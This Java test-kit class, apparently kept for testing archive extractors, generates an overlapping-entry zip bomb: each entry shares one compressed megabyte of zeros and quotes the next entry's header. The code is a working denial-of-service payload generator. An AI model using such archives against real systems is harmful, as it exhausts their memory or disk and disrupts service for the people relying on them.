// SPDX-License-Identifier: Apache-2.0
package dev.legible.testkit.hostile;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Deque;
import java.util.List;
import java.util.zip.CRC32;
import java.util.zip.Deflater;

/**
 * An archive whose entries share one run of compressed zeros: each entry quotes the header of the
 * next one as a stored block and goes on with its data (David Fifield, "A better zip bomb", WOOT
 * 2019). Every entry is valid alone, and no ratio of a single entry is unusual to DEFLATE.
 */
public final class OverlappingZip {

  private static final int MEGABYTE = 1 << 20;

  private OverlappingZip() {}

  /** {@code entries} (at most 1,000) entries of a little over a megabyte each. */
  public static byte[] of(int entries) {
    byte[] kernel = deflatedRaw(new byte[MEGABYTE]);
    Deque<byte[]> headers = new ArrayDeque<>();
    int compressed = kernel.length;
    int size = MEGABYTE;

    List<ZipWriter.Entry> backwards = new ArrayList<>();
    for (int i = entries - 1; i >= 0; i--) {
      if (!headers.isEmpty()) {
        int quoted = headers.getFirst().length;
        compressed += quoted + 5;
        size += quoted;
      }
      int check = check(headers);
      ZipWriter.Entry entry =
          new ZipWriter.Entry("part-" + (1000 + i) + ".txt", check, compressed, size, 0);
      backwards.add(entry);
      headers.addFirst(ZipWriter.local(entry, 0));
    }
    return assemble(headers, kernel, backwards.reversed());
  }

  private static byte[] assemble(
      Deque<byte[]> headers, byte[] kernel, List<ZipWriter.Entry> entries) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    List<ZipWriter.Entry> placed = new ArrayList<>();
    for (ZipWriter.Entry entry : entries) {
      byte[] header = headers.removeFirst();
      if (out.size() > 0) {
        out.writeBytes(storedBlock(header.length));
      }
      placed.add(
          new ZipWriter.Entry(
              entry.name(), entry.check(), entry.compressed(), entry.size(), out.size()));
      out.writeBytes(header);
    }
    out.writeBytes(kernel);
    int directory = out.size();
    out.writeBytes(ZipWriter.directory(placed, directory));
    return out.toByteArray();
  }

  /** Of the quoted headers and the zeros behind them. */
  private static int check(Deque<byte[]> headers) {
    CRC32 check = new CRC32();
    headers.forEach(check::update);
    check.update(new byte[MEGABYTE]);
    return (int) check.getValue();
  }

  /** The head of a DEFLATE block that holds {@code length} bytes as they are. */
  static byte[] storedBlock(int length) {
    ByteBuffer out = ByteBuffer.allocate(5).order(ByteOrder.LITTLE_ENDIAN);
    return out.put((byte) 0).putShort((short) length).putShort((short) ~length).array();
  }

  private static byte[] deflatedRaw(byte[] content) {
    Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
    deflater.setInput(content);
    deflater.finish();
    byte[] out = new byte[content.length];
    int length = deflater.deflate(out);
    deflater.end();
    return Arrays.copyOf(out, length);
  }
}
